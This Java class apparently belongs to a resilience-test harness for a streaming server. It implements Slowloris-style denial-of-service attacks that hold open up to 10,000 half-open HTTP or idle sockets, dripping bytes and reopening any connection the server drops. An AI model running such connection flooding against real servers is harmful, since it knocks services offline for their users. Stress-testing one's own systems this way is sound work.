package io.github.natcast.streamer.attack;

import java.io.IOException;
import java.nio.charset.StandardCharsets;

/** Connections that are held and never get to the point; those that the server closes are opened again. */
final class HeldConnections implements Attack {
    private static final int OPEN_AT_ONCE = 500;
    private static final long PAUSE_MILLIS = 200;

    private final String name;
    private final int count;
    private final String greeting;
    private final String drip;

    private HeldConnections(String name, int count, String greeting, String drip) {
        this.name = name;
        this.count = count;
        this.greeting = greeting;
        this.drip = drip;
    }

    /** Heads of requests, five bytes a second. */
    static HeldConnections halfOpen() {
        return new HeldConnections("half-open-http", 1_000, "GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ", "a");
    }

    static HeldConnections idle() {
        return new HeldConnections("idle-sockets", 10_000, "", "");
    }

    @Override
    public String name() {
        return name;
    }

    @Override
    public void run(Victim.Target target, Deadline deadline, Tally tally) throws IOException, InterruptedException {
        byte[] first = greeting.getBytes(StandardCharsets.US_ASCII);
        byte[] more = drip.getBytes(StandardCharsets.US_ASCII);
        try (Crowd crowd = new Crowd(target, count, tally)) {
            while (!deadline.isOver()) {
                crowd.fill(OPEN_AT_ONCE, first);
                deadline.sleep(PAUSE_MILLIS);
                crowd.say(more);
            }
        }
    }
}
